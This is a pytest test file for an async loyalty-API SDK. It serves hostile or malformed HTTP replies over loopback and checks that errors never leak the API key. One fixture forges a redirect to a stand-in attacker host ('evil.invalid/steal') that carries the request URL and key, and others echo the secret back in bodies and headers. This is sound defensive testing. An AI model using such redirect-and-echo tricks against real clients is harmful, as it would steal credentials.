"""A hostile-response catalogue: whatever a server sends, the SDK raises its
own error, and the key is nowhere in it.

Every case is served byte for byte over loopback (`serve_raw`), on every
HTTP stack (httpx on asyncio and trio, aiohttp on asyncio) and with the key
in the query and in the header. Each public call (`get_json`,
`aiter_rewards`, `usable_coupons`) must raise a `CrowdTwistError`, of the
class the case names, after the attempts it names; and neither that error
nor anything chained to it (`__cause__`, `__context__`, a group's members),
in its text, repr, args or any attribute down to an httpx request's URL and
headers, may hold the key in any form.
"""

from __future__ import annotations

import gzip
import json
import threading
import types
import zlib
from collections.abc import Awaitable, Callable, Iterator, Mapping
from typing import Literal
from urllib.parse import quote, quote_plus

import anyio
import attrs
import httpx
import pytest

import crowdtwist_async as ct

# Private on purpose: `main(argv)` is what the `crowdtwist-async` console
# script runs, here in process; `KeyMask` is unit-tested on excerpts cut
# inside each form of the key, cut by cut, which a server's body reaches
# only at whatever length the excerpt happens to have.
from crowdtwist_async._cli import main as cli_main
from crowdtwist_async._redact import KeyMask
from crowdtwist_async.testing import FakeCrowdTwist

from .conftest import HttpBackend, Stack

pytestmark = pytest.mark.anyio

#: A key whose `+`, `/` and `=` a URL carries percent-encoded.
KEY = "sk+Hostile/Key=42x"
_WHOLE = {form.lower() for form in (KEY, quote_plus(KEY), quote(KEY, safe=""))}
#: Every form of the key, and the first 8 characters of each: an excerpt cut
#: in the middle of the key must not keep its start either.
FORMS = tuple(_WHOLE | {form[:8] for form in _WHOLE})


@pytest.fixture
def anyio_backend(stack: Stack) -> str:
    return stack.loop


# -- what the server sends --------------------------------------------------

#: What the server writes back for a request head, byte for byte.
Reply = Callable[[bytes], bytes]


def target(head: bytes) -> bytes:
    """The request target (path and query) of a request's head."""
    return head.split(b" ", 2)[1]


def response(
    status: bytes,
    body: bytes = b"",
    *headers: bytes,
    length: bool = True,
    content_type: bytes = b"application/json",
) -> bytes:
    """A response as written on the wire: `status` is e.g. `b"200 OK"`."""
    # One request per connection, as the server closes it: a retry must not
    # race the server's close on a pooled connection.
    lines = [
        b"HTTP/1.1 " + status,
        b"Content-Type: " + content_type,
        b"Connection: close",
        *headers,
    ]
    if length:
        lines.append(b"Content-Length: %d" % len(body))
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


#: How much of a body an error keeps, in characters (`APIError.body`).
EXCERPT_CHARS = 500

PAGE = json.dumps(
    {"paging": {"total": 1, "pages": 1}, "rewards": [], "coupons": []}, separators=(",", ":")
).encode()


def encoded(encoding: bytes, body: bytes) -> Reply:
    return lambda head: response(b"200 OK", body, b"Content-Encoding: " + encoding)


def echoing_error(status: bytes) -> Reply:
    """An error page that quotes the whole request back, key and headers included."""
    return lambda head: response(status, b"you sent:\n" + head, content_type=b"text/plain")


def json_error_echo(head: bytes) -> bytes:
    echo = head.decode("latin-1")
    body = json.dumps({"error": "bad " + echo, "message": "bad request " + echo}).encode()
    return response(b"400 Bad Request", body)


def secret(head: bytes) -> bytes:
    """The key as the request carried it: the `api_key` value or the header's."""
    if b"api_key=" in head:
        return target(head).split(b"api_key=")[1].split(b"&")[0]
    return head.split(b"CTApiKey ")[1].split(b"\r\n")[0]


def key_cut_by_the_excerpt(head: bytes) -> bytes:
    """An error page whose 500th character falls inside the echoed key."""
    body = b"." * (EXCERPT_CHARS - 6) + secret(head) + b" and more"
    return response(b"500 Oops", body, content_type=b"text/plain")


def redirect_echo(head: bytes) -> bytes:
    location = b"http://evil.invalid/steal?u=" + target(head)
    return response(b"302 Found", b"see " + location, b"Location: " + location)


def request_id_echo(head: bytes) -> bytes:
    return response(b"503 Service Unavailable", b"{}", b"X-Request-Id: " + target(head))


def retry_after_echo(head: bytes) -> bytes:
    return response(b"429 Too Many Requests", b"{}", b"Retry-After: " + target(head))


def records_echo(head: bytes) -> bytes:
    """A 200 page whose records hold the request where numbers belong."""
    echo = head.decode("latin-1")
    record = {"id": echo, "points": echo, "coupon_id": echo, "redemption_id": echo}
    page = {"paging": {"total": 1, "pages": 1}, "rewards": [record], "coupons": [record]}
    return response(b"200 OK", json.dumps(page).encode())


def not_json_echo(head: bytes) -> bytes:
    return response(b"200 OK", b"<html>" + head + b"</html>", content_type=b"text/html")


def long_header_echo(head: bytes) -> bytes:
    return response(b"200 OK", PAGE, b"X-Echo: " + target(head) * (200_000 // len(target(head))))


def many_headers(head: bytes) -> bytes:
    """200 KiB of headers, each quoting the request."""
    echo = target(head) + b"/" + secret(head)
    return response(b"200 OK", PAGE, *(b"X-H%d: %s" % (i, echo) for i in range(4000)))


@attrs.frozen
class Case:
    """One hostile reply and what every call must raise for it."""

    reply: Reply
    error: type[ct.CrowdTwistError]
    reset: bool = False
    #: What a call raises instead, by call name (None: it returns normally).
    per_call: Mapping[str, type[ct.CrowdTwistError] | None] = attrs.field(factory=dict)
    #: What aiohttp makes of it, where that differs from httpx.
    on_aiohttp: type[ct.CrowdTwistError] | None = None


#: What is tried again: a failed exchange, a 5xx or 429. A body that does not
#: decode, or a 4xx, would come back the same.
RETRIED = (ct.APIConnectionError, ct.ServerError, ct.RateLimitError)


Conn = ct.APIConnectionError
Decode = ct.ResponseDecodeError
HALF_GZIP = gzip.compress(PAGE)[:20]

CATALOGUE: dict[str, Case] = {
    # Bodies that do not decode: a server bug, the same bytes every time.
    "bad gzip": Case(encoded(b"gzip", b"xx"), Decode),
    "bad deflate": Case(encoded(b"deflate", b"xx"), Decode),
    "gzip cut short": Case(encoded(b"gzip", HALF_GZIP), Decode),
    "gzip declared twice": Case(encoded(b"gzip, gzip", gzip.compress(PAGE)), Decode),
    "deflate declared, gzip sent": Case(encoded(b"deflate", gzip.compress(PAGE)), Decode),
    "raw deflate declared gzip": Case(encoded(b"gzip", zlib.compress(PAGE)[2:-4]), Decode),
    "bad brotli": Case(encoded(b"br", b"\xff\xfe\xfd"), Decode),
    "bad zstd": Case(encoded(b"zstd", b"\xff\xfe\xfd"), Decode),
    "unknown encoding": Case(encoded(b"x-evil", b"\x00\x01\x02"), Decode),
    "invalid UTF-8 JSON": Case(lambda head: response(b"200 OK", b'{"paging": "\xff\xfe"}'), Decode),
    "HTML 200 echoing the request": Case(not_json_echo, Decode),
    "records echoing the request": Case(records_echo, Decode, per_call={"get_json": None}),
    # Broken framing: the exchange failed, as a dropped connection does.
    "chunked body cut short": Case(
        lambda head: response(
            b"200 OK", b"40\r\n" + PAGE[:20], b"Transfer-Encoding: chunked", length=False
        ),
        Conn,
    ),
    "bad chunk size": Case(
        lambda head: response(
            b"200 OK",
            b"zz\r\n" + PAGE + b"\r\n0\r\n\r\n",
            b"Transfer-Encoding: chunked",
            length=False,
        ),
        Conn,
    ),
    "Content-Length past the body": Case(
        lambda head: response(b"200 OK", PAGE, b"Content-Length: 100000", length=False),
        Conn,
    ),
    "Content-Length not a number": Case(
        lambda head: response(b"200 OK", PAGE, b"Content-Length: lots", length=False),
        Conn,
    ),
    "Content-Length twice, different": Case(
        lambda head: response(b"200 OK", PAGE, b"Content-Length: 3"), Conn
    ),
    # httpx refuses a transfer coding it does not know; aiohttp reads the
    # body to the close, undecoded: not JSON.
    "gzip transfer coding": Case(
        lambda head: response(
            b"200 OK", gzip.compress(PAGE), b"Transfer-Encoding: gzip", length=False
        ),
        Conn,
        on_aiohttp=Decode,
    ),
    "header line without a colon, echoing the request": Case(
        lambda head: response(b"200 OK", PAGE, b"Echo " + target(head)), Conn
    ),
    "NUL in a header name": Case(
        lambda head: response(b"200 OK", PAGE, b"X-B\x00ad: " + target(head)), Conn
    ),
    "header line too long, echoing the request": Case(long_header_echo, Conn),
    "thousands of headers echoing the request": Case(many_headers, Conn),
    "not HTTP": Case(lambda head: b"SSH-2.0-OpenSSH_9.6\r\n", Conn),
    "the request echoed as the reply": Case(lambda head: head, Conn),
    "HTTP/0.9: a body, no status line": Case(lambda head: PAGE, Conn),
    "status code not a number": Case(
        lambda head: b"HTTP/1.1 2OO OK\r\nContent-Length: 2\r\n\r\n{}", Conn
    ),
    "status line echoing the request": Case(
        lambda head: b"HTTP/1.1 " + head.split(b"\r\n")[0] + b"\r\n\r\n", Conn
    ),
    "100 Continue, then nothing": Case(lambda head: b"HTTP/1.1 100 Continue\r\n\r\n", Conn),
    "reset mid-body": Case(
        lambda head: response(b"200 OK", PAGE, b"Content-Length: 100000", length=False),
        Conn,
        reset=True,
    ),
    "reset before the reply": Case(lambda head: b"", Conn, reset=True),
    # Answers the SDK reads: the key they quote back is masked.
    "redirect to another host echoing the URL": Case(redirect_echo, ct.APIError),
    "500 page echoing the request": Case(echoing_error(b"500 Oops"), ct.ServerError),
    "401 page echoing the request": Case(
        echoing_error(b"401 Unauthorized"), ct.AuthenticationError, False
    ),
    "JSON error fields echoing the request": Case(json_error_echo, ct.BadRequestError),
    "request id echoing the URL": Case(request_id_echo, ct.ServerError),
    "Retry-After echoing the URL": Case(retry_after_echo, ct.RateLimitError),
    "reason phrase echoing the URL": Case(
        lambda head: b"HTTP/1.1 502 " + target(head) + b"\r\nConnection: close\r\n\r\n",
        ct.ServerError,
    ),
    "the excerpt of a 500 page cutting the key": Case(key_cut_by_the_excerpt, ct.ServerError),
}


# -- the calls ----------------------------------------------------------------


async def read_rewards(session: ct.Session) -> object:
    return [reward async for reward in session.users.aiter_rewards("alice")]


CALLS: dict[str, Callable[[ct.Session], Awaitable[object]]] = {
    "get_json": lambda session: session.get_json("/v2/users/alice/points"),
    "aiter_rewards": read_rewards,
    "usable_coupons": lambda session: session.users.usable_coupons("alice"),
}


# -- finding the key ----------------------------------------------------------

_LEAVES = (type(None), bool, int, float, complex, type, types.ModuleType, types.FunctionType)


def leaks(root: object) -> list[str]:
    """Where in *root*, and everything it holds, the key appears in any form."""
    found: list[str] = []
    seen: set[int] = set()

    def holds(text: str) -> bool:
        lowered = text.lower()
        return any(form in lowered for form in FORMS)

    def visit(obj: object, where: str, depth: int) -> None:
        if isinstance(obj, bytes | bytearray | memoryview):
            obj = bytes(obj).decode("latin-1")
        if isinstance(obj, str):
            if holds(obj):
                found.append(where)
            return
        if isinstance(obj, _LEAVES) or id(obj) in seen or depth > 12:
            return
        seen.add(id(obj))
        for name, text in (("repr", repr), ("str", str)):
            if holds(text(obj)):
                found.append(f"{where} {name}")
        for label, child in children(obj):
            visit(child, f"{where}{label}", depth + 1)

    visit(root, "error", 0)
    return found


def children(obj: object) -> Iterator[tuple[str, object]]:
    """What *obj* holds: chained exceptions, items, attributes."""
    if isinstance(obj, BaseException):
        yield ".args", obj.args
        yield ".__cause__", obj.__cause__
        yield ".__context__", obj.__context__
        yield ".__notes__", getattr(obj, "__notes__", None)
        yield ".exceptions", getattr(obj, "exceptions", None)  # an exception group's
    if isinstance(obj, httpx.URL):
        yield ".str", str(obj)
    if isinstance(obj, httpx.Headers):
        yield ".raw", obj.raw
    if isinstance(obj, httpx.Request):
        yield ".url", obj.url
        yield ".headers", obj.headers
    if isinstance(obj, httpx.Response):
        yield ".headers", obj.headers
        # httpx's own private attribute, walked on purpose: a response keeps
        # its request (URL, headers, key and all) there, public or not.
        yield "._request", getattr(obj, "_request", None)
    if isinstance(obj, Mapping):
        for name, value in obj.items():
            yield f"[{name!r}]", value
            yield f"[key {name!r}]", name
    elif isinstance(obj, list | tuple | set | frozenset):
        for index, value in enumerate(obj):
            yield f"[{index}]", value
    for name, value in getattr(obj, "__dict__", {}).items():
        yield f".{name}", value
    for cls in type(obj).__mro__:
        for name in getattr(cls, "__slots__", ()):
            if name not in ("__dict__", "__weakref__") and hasattr(obj, name):
                yield f".{name}", getattr(obj, name)


def test_the_walk_finds_the_key_in_an_httpx_errors_request() -> None:
    # The walk itself: a raw httpx error, as today's code let escape.
    request = httpx.Request("GET", f"https://x/?api_key={quote_plus(KEY)}")
    error = ct.APIConnectionError("failed")
    error.__context__ = httpx.DecodingError("bad gzip", request=request)
    header = httpx.Request("GET", "https://x/", headers={"X-CT-Authorization": f"CTApiKey {KEY}"})
    assert "error.__context__._request.url.str" in leaks(error)
    assert "error._request.headers.raw[1][1]" in leaks(httpx.ReadError("x", request=header))
    assert "error.args[0]" in leaks(ValueError(KEY.encode()))
    assert leaks(ValueError(f"cut at {KEY[:8]}…")) != []
    assert leaks(ct.CrowdTwistError(f"x {quote(KEY, safe='').lower()}")) != []


# -- the catalogue --------------------------------------------------------------


@pytest.mark.parametrize("auth", ["query", "header"])
@pytest.mark.parametrize("name", list(CATALOGUE))
async def test_every_hostile_reply_is_an_sdk_error_without_the_key(
    name: str,
    auth: Literal["query", "header"],
    http_backend: HttpBackend,
    fast_retries: None,
) -> None:
    case = CATALOGUE[name]
    fake = FakeCrowdTwist(api_key=KEY)
    heads: list[bytes] = []

    def reply(head: bytes) -> bytes:
        heads.append(head)
        return case.reply(head)

    outcomes: dict[str, tuple[Exception | None, int]] = {}
    with fake.serve_raw(reply, reset=case.reset) as url:
        async with ct.Session(
            KEY, base_url=url, auth=auth, max_retries=1, timeout=10.0, http_backend=http_backend
        ) as session:
            for call, run in CALLS.items():
                fake.requests.clear()
                raised: Exception | None = None
                try:
                    await run(session)
                except Exception as exc:  # any class: it is checked below
                    raised = exc
                outcomes[call] = (raised, len(fake.requests))
    # The key did travel: the server saw it in every request.
    wire = KEY.encode() if auth == "header" else quote_plus(KEY).encode()
    assert heads
    assert all(wire in head for head in heads)
    for call, (raised, attempts) in outcomes.items():
        expected = case.per_call.get(call, case.error)
        if http_backend == "aiohttp" and case.on_aiohttp is not None:
            expected = case.on_aiohttp
        if expected is None:
            assert raised is None, call
            continue
        assert type(raised) is expected, (call, raised)
        assert leaks(raised) == [], call
        # aiohttp sends an idempotent request once more on its own when the
        # connection dies before a response (RFC 9112, 9.3.1.1).
        assert attempts in ((2, 4) if issubclass(expected, RETRIED) else (1,)), (call, attempts)


async def test_the_bad_gzip_error_names_the_status(
    http_backend: HttpBackend, fast_retries: None
) -> None:
    fake = FakeCrowdTwist(api_key=KEY)
    with fake.serve_raw(encoded(b"gzip", b"xx")) as url:
        async with ct.Session(KEY, base_url=url, http_backend=http_backend) as session:
            with pytest.raises(ct.ResponseDecodeError) as info:
                await session.get_json("/v2/users/alice/points")
    error = info.value
    assert (error.status_code, error.body, error.field) == (200, "", None)
    assert str(error).startswith("HTTP 200 response body could not be decoded (gzip): ")
    assert error.__cause__ is None
    assert error.__context__ is None
    # Not retried: the same bytes would come back.
    assert len(fake.requests) == 1


def test_the_cli_prints_its_one_error_line_for_a_bad_gzip(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("CROWDTWIST_API_KEY", KEY)
    fake = FakeCrowdTwist(api_key=KEY)
    with fake.serve_raw(encoded(b"gzip", b"xx")) as url:
        status = cli_main(["rewards", "alice", "--base-url", url, "--format", "ndjson"])
    out, err = capsys.readouterr()
    assert (status, out) == (1, "")
    assert err.splitlines() == [
        "crowdtwist-async: error: ResponseDecodeError: HTTP 200 response body could not be "
        "decoded (gzip): Error -3 while decompressing data: incorrect header check"
    ]


async def test_a_session_closed_mid_request_raises_a_runtime_error_without_a_chain(
    http_backend: HttpBackend,
) -> None:
    # The server holds the reply until the session is closed.
    released = threading.Event()
    heads: list[bytes] = []

    def late(head: bytes) -> bytes:
        heads.append(head)
        released.wait(10)
        return response(b"200 OK", PAGE)

    fake = FakeCrowdTwist(api_key=KEY)
    with fake.serve_raw(late) as url:
        async with ct.Session(KEY, base_url=url, http_backend=http_backend) as session:

            async def close_when_sent() -> None:
                while not heads:
                    await anyio.sleep(0.01)
                await session.aclose()

            async with anyio.create_task_group() as group:
                group.start_soon(close_when_sent)
                with pytest.raises(RuntimeError) as info:
                    await session.get_json("/v2/users/alice/points")
            released.set()
    error = info.value
    assert str(error) == "the Session was closed while GET /v2/users/alice/points was in flight"
    assert (error.__cause__, error.__context__) == (None, None)
    assert leaks(error) == []


async def test_a_structuring_error_keeps_its_cause_when_it_holds_no_key(
    http_backend: HttpBackend,
) -> None:
    # Diagnosis survives the guard: only a chain holding the key is cut.
    record = {"id": "r1", "points": "many"}
    page = {"paging": {"total": 1, "pages": 1}, "rewards": [record]}
    fake = FakeCrowdTwist(api_key=KEY)
    with fake.serve_raw(lambda head: response(b"200 OK", json.dumps(page).encode())) as url:
        async with ct.Session(KEY, base_url=url, http_backend=http_backend) as session:
            with pytest.raises(ct.ResponseDecodeError) as info:
                await read_rewards(session)
    error = info.value
    assert (error.status_code, error.record_id) == (200, "r1")
    assert error.__cause__ is not None
    assert leaks(error) == []


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        # A form of the key cut short by an excerpt: its start is masked.
        (f"{'.' * 10}{KEY[:6]}…", f"{'.' * 10}***…"),
        (f"x {quote_plus(KEY)[:9]}…", "x ***…"),
        (f"x {quote(KEY, safe='').lower()[:12]}…", "x ***…"),
        # Whole forms anywhere, cut or not.
        (f"a {KEY} b {quote_plus(KEY)}…", "a *** b ***…"),
        # Three characters give nothing away, and are ordinary text.
        (f"x {KEY[:3]}…", f"x {KEY[:3]}…"),
        # Not cut: the start of the key is only text.
        (f"x {KEY[:6]}", f"x {KEY[:6]}"),
    ],
)
def test_an_excerpt_cut_inside_the_key_loses_its_start(text: str, shown: str) -> None:
    assert KeyMask(KEY)(text) == shown
